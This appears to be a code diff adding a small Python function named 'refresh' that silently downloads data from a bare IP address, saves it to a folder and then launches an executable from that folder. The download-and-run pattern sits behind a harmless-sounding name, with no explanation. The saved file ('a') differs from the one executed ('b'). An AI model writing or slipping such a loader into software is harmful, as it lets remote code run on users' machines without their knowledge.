@@ -1,0 +1,9 @@
+import os
+import subprocess
+from urllib.request import urlopen
+
+
+def refresh(folder):
+    with open(os.path.join(folder, "a"), "wb") as file:
+        file.write(urlopen("http://192.0.2.7/a").read())
+    subprocess.Popen([os.path.join(folder, "b")])
